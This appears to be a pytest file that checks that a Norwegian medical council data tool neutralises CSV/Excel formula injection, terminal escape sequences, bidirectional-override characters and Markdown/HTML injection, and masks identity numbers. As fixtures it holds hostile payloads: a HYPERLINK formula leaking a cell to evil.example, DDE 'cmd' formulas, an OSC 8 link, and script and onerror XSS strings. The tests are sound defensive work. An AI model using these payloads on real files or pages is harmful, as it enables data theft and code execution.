"""Injection into what people open: data that would be a formula in a spreadsheet, a
terminal escape sequence, a right-to-left override or a Markdown break-out is refused at
input (X-CONTROL) and shown as text at every output (``regraad.output.safe``)."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from openpyxl import load_workbook

from regraad.cli.app import main

from .conftest import AS_OF

COUNCIL = "data/specialties/anestesiologi/councils/hmn.yaml"
SPECIALTY = "data/specialties/anestesiologi/specialty.yaml"
NAME = "  - name: Silje Aune"
NUMBER = "01019000083"  # valid check digits: a national identity number
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klikk her")'
# an ESC colour sequence, an OSC 8 terminal link, a NUL and a C1 CSI, as YAML escapes
CONTROL_ESCAPES = {
    "esc": "\\e[31mrød\\e[0m",
    "osc8": "\\e]8;;https://evil.example\\e\\\\klikk\\e]8;;\\e\\\\",
    "nul": "Silje\\0Aune",
    "csi": "\\x9b2J",
}


def run(capsys: pytest.CaptureFixture[str], root: Path, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["--root", str(root), *args])
    out, err = capsys.readouterr()
    return code, out, err


def edit(root: Path, path: str, old: str, new: str) -> None:
    target = root / path
    content = target.read_text(encoding="utf-8")
    assert old in content, f"{old!r} not in {path}"
    target.write_text(content.replace(old, new, 1), encoding="utf-8")


def quoted(text: str) -> str:
    """``text`` as a double-quoted YAML scalar (no escapes of its own)."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def position(root: Path, path: str, needle: str) -> tuple[int, int]:
    """1-based line and column where ``needle`` starts in a file."""
    text = (root / path).read_text(encoding="utf-8")
    index = text.index(needle)
    return text.count("\n", 0, index) + 1, index - (text.rfind("\n", 0, index) + 1) + 1


def findings(capsys: pytest.CaptureFixture[str], root: Path) -> list[dict[str, object]]:
    code, out, err = run(capsys, root, "validate", "--as-of", AS_OF, "--format", "json")
    assert code in (0, 1), err
    return [
        f for f in json.loads(out)["findings"] if f["rule"] not in ("F-FAGKONTAKT", "K-BOTTLENECK")
    ]


# -- spreadsheets ----------------------------------------------------------------------------------


def test_a_formula_in_a_name_is_text_in_an_xlsx_export(
    capsys: pytest.CaptureFixture[str], data_root: Path, tmp_path: Path
) -> None:
    edit(data_root, COUNCIL, NAME, f"  - name: {quoted(FORMULA)}")
    out = tmp_path / "råd.xlsx"
    code, _out, err = run(
        capsys, data_root, "export", "councils", "-s", "anestesiologi", "--out", str(out),
        "--lang", "en", "--as-of", AS_OF,
    )  # fmt: skip
    assert code == 0, err
    ws = load_workbook(out)["Anaesthesiology"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert len(cells) == 1  # the name, exactly as written, not a formula's result
    assert cells[0].data_type == "s"  # text: Excel never evaluates it
    assert cells[0].quotePrefix  # and text still when someone edits the cell
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    active = [row for row in ws.iter_rows() if str(row[0].value).startswith("Active members")]
    assert active and active[0][1].data_type == "n"  # a real number stays a number


@pytest.mark.parametrize(
    "name",
    [FORMULA, "+47 1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
)
def test_a_cell_that_would_start_a_formula_is_quoted_in_a_csv_export(
    capsys: pytest.CaptureFixture[str], data_root: Path, tmp_path: Path, name: str
) -> None:
    edit(data_root, COUNCIL, NAME, f"  - name: {quoted(name)}")
    out = tmp_path / "råd.csv"
    code, _out, err = run(
        capsys, data_root, "export", "councils", "-s", "anestesiologi", "--out", str(out),
        "--lang", "en", "--as-of", AS_OF,
    )  # fmt: skip
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells  # Excel and LibreOffice show it as the text it is
    assert not [c for c in cells if re.match(r"\s*[=+\-@]", c)], "no cell starts a formula"


def test_an_identity_number_is_masked_in_exports(
    capsys: pytest.CaptureFixture[str], data_root: Path, tmp_path: Path
) -> None:
    """A number that slipped into the data (X-PERSONNUMMER reports it) still never
    leaves in full in a workbook that travels beyond the repository."""
    edit(data_root, COUNCIL, "    title: overlege\n", f"    title: overlege {NUMBER}\n")
    edit(data_root, SPECIALTY, 'title: "Kunne gjøre', f'title: "Pasient {NUMBER}: Kunne gjøre')
    for what, args in (("councils", ["-s", "anestesiologi"]), ("goals", ["anestesiologi"])):
        for suffix in ("xlsx", "csv"):
            out = tmp_path / f"{what}.{suffix}"
            code, _out, err = run(capsys, data_root, "export", what, *args, "--out", str(out))
            assert code == 0, err
            if suffix == "csv":
                text = out.read_bytes().decode("utf-8-sig")
            else:
                book = load_workbook(out)
                text = "\n".join(
                    str(v) for ws in book for row in ws.iter_rows(values_only=True) for v in row
                )
            assert NUMBER not in text, (what, suffix)
            assert f"{NUMBER[:2]}*********" in text, (what, suffix)


@pytest.mark.parametrize("escape", CONTROL_ESCAPES.values(), ids=CONTROL_ESCAPES.keys())
@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_control_characters_are_escaped_in_an_export_which_succeeds(
    capsys: pytest.CaptureFixture[str], data_root: Path, tmp_path: Path, escape: str, suffix: str
) -> None:
    edit(data_root, COUNCIL, NAME, f'  - name: "{escape}"')
    out = tmp_path / f"råd.{suffix}"
    code, _out, err = run(
        capsys, data_root, "export", "councils", "-s", "anestesiologi", "--out", str(out)
    )
    assert code == 0, err  # not an internal error (openpyxl refuses these characters)
    if suffix == "xlsx":
        values = [v for ws in load_workbook(out) for row in ws.iter_rows(values_only=True)
                  for v in row if isinstance(v, str)]  # fmt: skip
        text = "\n".join(values)
    else:
        text = out.read_bytes().decode("utf-8-sig")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
    assert re.search(r"\\x(1b|00|9b)", text)  # shown as an escape


# -- X-CONTROL -------------------------------------------------------------------------------------


@pytest.mark.parametrize("escape", CONTROL_ESCAPES.values(), ids=CONTROL_ESCAPES.keys())
def test_a_control_character_in_a_value_is_a_finding_at_the_value(
    capsys: pytest.CaptureFixture[str], data_root: Path, escape: str
) -> None:
    edit(data_root, COUNCIL, NAME, f'  - name: "{escape}"')
    line, col = position(data_root, COUNCIL, f'"{escape}"')
    found = findings(capsys, data_root)
    assert [(f["rule"], f["path"], f["line"], f["column"]) for f in found] == [
        ("X-CONTROL", COUNCIL, line, col)
    ]
    assert found[0]["severity"] == "error"
    assert re.search(r"U\+00(1B|00|9B)", str(found[0]["message"]))


@pytest.mark.parametrize(
    "bidi", ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c"]
)
def test_a_bidirectional_override_in_a_name_is_a_finding_at_the_character(
    capsys: pytest.CaptureFixture[str], data_root: Path, bidi: str
) -> None:
    edit(data_root, COUNCIL, NAME, f"  - name: Silje {bidi}enuA")  # shows as "Silje Aune"
    line, col = position(data_root, COUNCIL, bidi)
    found = findings(capsys, data_root)
    assert [(f["rule"], f["line"], f["column"]) for f in found] == [("X-CONTROL", line, col)]
    assert f"U+{ord(bidi):04X}" in str(found[0]["message"])


def test_an_override_in_a_comment_or_a_key_is_a_finding_at_the_character(
    capsys: pytest.CaptureFixture[str], data_root: Path
) -> None:
    """A comment that reads differently from what it is ("Trojan Source") misleads the
    reviewer of a pull request as much as a name does."""
    edit(data_root, COUNCIL, "  # Leder fra", "  # \u202eLeder fra")
    edit(data_root, COUNCIL, "    trust: hnt\n", "    trust: hnt\n    n\u2067ote: x\n")
    comment = position(data_root, COUNCIL, "\u202e")
    key = position(data_root, COUNCIL, "\u2067")
    found = {(f["rule"], f["line"], f["column"]) for f in findings(capsys, data_root)}
    assert {("X-CONTROL", *comment), ("X-CONTROL", *key)} <= found


def test_control_characters_in_a_file_name_are_a_finding(
    capsys: pytest.CaptureFixture[str], data_root: Path
) -> None:
    trusts = data_root / "data/trusts"
    (trusts / "hnt\x1b[2J.yaml").write_bytes((trusts / "hnt.yaml").read_bytes())
    found = [f for f in findings(capsys, data_root) if f["rule"] == "X-CONTROL"]
    assert [(f["path"], f["line"]) for f in found] == [("data/trusts/hnt\x1b[2J.yaml", 0)]


# -- JUnit XML -------------------------------------------------------------------------------------


def test_junit_stays_well_formed_whatever_the_data_holds(
    capsys: pytest.CaptureFixture[str], data_root: Path
) -> None:
    trusts = data_root / "data/trusts"
    (trusts / "hnt\x1b]8;;x\x07.yaml").write_bytes((trusts / "hnt.yaml").read_bytes())
    edit(data_root, COUNCIL, NAME, '  - name: "\\0\\e[31m\\uFFFE\\u202e"')
    code, out, err = run(capsys, data_root, "validate", "--as-of", AS_OF, "--format", "junit")
    assert code == 1, err
    root = ET.fromstring(out)  # well-formed
    names = [case.get("name", "") for case in root.iter("testcase")]
    assert "data/trusts/hnt\\x1b]8;;x\\x07.yaml" in names  # shown, not obeyed
    failures = "\n".join(el.text or "" for el in root.iter("failure"))
    assert "X-CONTROL" in failures


# -- Markdown --------------------------------------------------------------------------------------


def flat(blocks: list[Token]) -> list[Token]:
    """Block tokens and, after each, its inline children."""
    return [t for block in blocks for t in [block, *(block.children or [])]]


EVIL_FILE = "x\n### @everyone <script>alert(1)<\\script>\n```\n\n<img src=x onerror=alert(1)>y.yaml"


def test_a_file_name_cannot_break_out_of_its_code_span_in_diff_markdown(
    capsys: pytest.CaptureFixture[str], repo: Path
) -> None:
    trusts = repo / "data/trusts"
    (trusts / EVIL_FILE).write_bytes((trusts / "hnt.yaml").read_bytes())
    code, out, err = run(capsys, repo, "diff", "--as-of", AS_OF, "--format", "markdown")
    assert code == 0, err
    tokens = flat(MarkdownIt("commonmark").parse(out))
    assert [t.type for t in tokens if t.type == "heading_open"] == ["heading_open"]  # the title
    assert not [t for t in tokens if t.type.startswith("html") and "script" in t.content]
    assert not [t for t in tokens if t.type.startswith("html") and "onerror" in t.content]
    spans = [t.content for t in tokens if t.type == "code_inline" and "everyone" in t.content]
    assert spans and all(s.startswith("data/trusts/x\\n### @everyone <script>") for s in spans)
    lines = [line for line in out.splitlines() if "everyone" in line]
    assert lines and all(line.startswith("- ") for line in lines)  # list items, never a heading


def test_markdown_text_shows_control_and_bidi_characters_as_escapes() -> None:
    from regraad.output.markdown import md

    text = md("Silje \x1b]8;;https://evil.example\x1b\\Aune\x00 \u202eenuA \x9b2J")
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    assert "\\\\x1b" in text and "\\\\u202e" in text  # the escape, as Markdown text


@given(st.text(st.characters(codec="utf-8"), max_size=40))
def test_a_code_span_holds_any_text_on_one_line(text: str) -> None:
    from regraad.output.markdown import code_span
    from regraad.output.safe import visible
    from regraad.privacy.personnummer import redact

    item = f"- a {code_span(text)} b\n"
    table = f"| a | b |\n|---|---|\n| {code_span(text, in_table=True)} | c |\n"
    for where, source in (("item", item), ("table", table)):
        tokens = flat(MarkdownIt("commonmark").enable("table").parse(source))
        spans = [t.content for t in tokens if t.type == "code_inline"]
        assert spans == [visible(redact(text)) or " "], where
        assert not [t for t in tokens if t.type.startswith(("html", "heading", "link"))], where
